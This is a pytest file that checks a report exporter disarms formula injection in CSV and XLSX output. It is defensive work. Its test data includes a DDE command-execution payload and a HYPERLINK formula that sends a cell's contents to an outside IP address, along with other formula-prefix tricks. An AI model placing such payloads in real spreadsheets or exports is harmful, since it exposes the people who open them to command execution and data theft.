"""A text from the database stays a text in a spreadsheet, whatever it begins with."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from jobyard.jobs.reports.formats.csv import safe_text
from jobyard.jobs.reports.formats.xlsx import LONGEST_TEXT

from .conftest import Make

MARCH = {"start": "2025-03-01", "end": "2025-03-31"}
NASTY = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"more")',
]
HARMLESS = ["Ada", "", "1=1", "a-b", "https://example.org", 'He said "no", twice', "line\nbreak", "naïve ñ 日本 🙂"]


def with_customers(own_database: Callable[..., Path], names: list[str]) -> None:
    own_database(
        customers=[(number, name, 1) for number, name in enumerate(names, 1)],
        orders=[
            (number, f"2025-03-01 00:00:{number:02d}", number, 1, "web", 1, -500, -500, "paid")
            for number in range(1, len(names) + 1)
        ],
    )


def test_csv_disarms_formulas_and_leaves_the_rest_as_it_is(own_database: Callable[..., Path], make: Make) -> None:
    with_customers(own_database, NASTY + HARMLESS)
    rows = make("sales", "csv", date_range=MARCH).rows()
    assert [row["Customer"] for row in rows] == ["'" + name for name in NASTY] + HARMLESS
    # A negative number is a number: it must stay one.
    assert {row["Total (EUR)"] for row in rows} == {"-5.00"}


def test_xlsx_has_texts_and_neither_formulas_nor_links(own_database: Callable[..., Path], make: Make) -> None:
    with_customers(own_database, NASTY + HARMLESS)
    path = make("sales", "xlsx", date_range=MARCH).path
    cells = [row[3] for row in openpyxl.load_workbook(path)["Data"].iter_rows(min_row=2)]
    # openpyxl gives an empty text back as an empty cell, and a line break as XML normalises it.
    assert [str(cell.value or "").replace("_x000D_", "\r") for cell in cells] == NASTY + HARMLESS
    assert {cell.data_type for cell in cells if cell.value} <= {"s", "inlineStr"}
    with zipfile.ZipFile(path) as packed:
        for name in packed.namelist():
            if name.startswith("xl/worksheets/"):
                content = packed.read(name).decode()
                assert "<f>" not in content
                assert "<hyperlink" not in content


@pytest.mark.parametrize("text", ["", " ", "−5 (a real minus sign)", "a=b", "1-2"])
def test_a_harmless_text_is_not_touched(text: str) -> None:
    assert safe_text(text) == text


def test_a_text_too_long_for_a_cell_is_cut_not_lost(own_database: Callable[..., Path], make: Make) -> None:
    with_customers(own_database, ["x" * (LONGEST_TEXT + 10)])
    (cell,) = openpyxl.load_workbook(make("sales", "xlsx", date_range=MARCH).path)["Data"]["D"][1:]
    assert cell.value == "x" * (LONGEST_TEXT - 1) + "…"
